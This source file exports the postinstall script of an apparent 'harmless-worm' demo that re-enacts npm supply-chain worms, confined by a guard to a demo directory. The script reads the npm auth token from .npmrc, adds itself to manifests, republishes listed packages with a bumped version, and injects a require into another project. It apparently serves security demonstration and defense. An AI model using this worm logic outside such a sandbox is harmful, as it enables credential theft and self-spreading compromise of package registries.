/**
 * The postinstall of `harmless-worm`: what the npm worms of 2016 to 2026 did, re-enacted. It is inert: it acts on the
 * HOME of the demo and on the demo's registry, and outside the demo's directory it ends at once.
 */
export const wormScript = String.raw`'use strict'
const fs = require('node:fs')
const path = require('node:path')
const { execFileSync } = require('node:child_process')

const { inside, packages } = JSON.parse(fs.readFileSync(path.join(__dirname, 'aim.json'), 'utf8'))
const project = process.env.INIT_CWD ?? ''
if (!project.startsWith(inside + path.sep)) process.exit(0)
const home = path.dirname(path.dirname(project))
const own = name => path.join(__dirname, name)
const attempt = act => {
  try {
    act()
  } catch (error) {
    // for the person who looks around after --keep
    fs.appendFileSync(own('failed.txt'), error.message + '\n' + (error.stderr ?? '') + '\n')
  }
}
const npm = (args, cwd) => {
  const options = ['--userconfig', path.join(home, '.npmrc'), '--cache', own('cache'), '--fetch-retry-mintimeout=200', '--fetch-retry-maxtimeout=800']
  const command = [process.env.npm_execpath, ...args, '--ignore-scripts', ...options]
  execFileSync(process.execPath, command, { cwd, timeout: 20_000, stdio: 'pipe' })
}
const editManifest = (file, edit) => {
  const manifest = JSON.parse(fs.readFileSync(file, 'utf8'))
  edit(manifest)
  manifest.dependencies = { ...manifest.dependencies, 'harmless-worm': '^1.0.0' }
  fs.writeFileSync(file, JSON.stringify(manifest, undefined, 2) + '\n')
}

fs.writeFileSync(own('ran.txt'), '')

attempt(() => {
  const [, token] = /_authToken=(\S+)/.exec(fs.readFileSync(path.join(home, '.npmrc'), 'utf8'))
  fs.writeFileSync(own('stolen.txt'), token)
})

attempt(() => editManifest(path.join(project, 'package.json'), () => {}))

for (const name of packages) {
  attempt(() => {
    const directory = own('patched/' + name)
    fs.mkdirSync(directory, { recursive: true })
    npm(['pack', name], directory)
    const tarball = fs.readdirSync(directory).find(file => file.endsWith('.tgz'))
    execFileSync('tar', ['-xzf', tarball], { cwd: directory })
    editManifest(path.join(directory, 'package/package.json'), manifest => {
      manifest.version = '1.0.1'
    })
    npm(['publish'], path.join(directory, 'package'))
  })
}

attempt(() => fs.appendFileSync(path.join(home, 'projects/notes/index.js'), "require('harmless-worm')\n"))

attempt(() => fs.writeFileSync(path.join(home, 'worm-was-here.txt'), 'a canary, no more\n'))
`
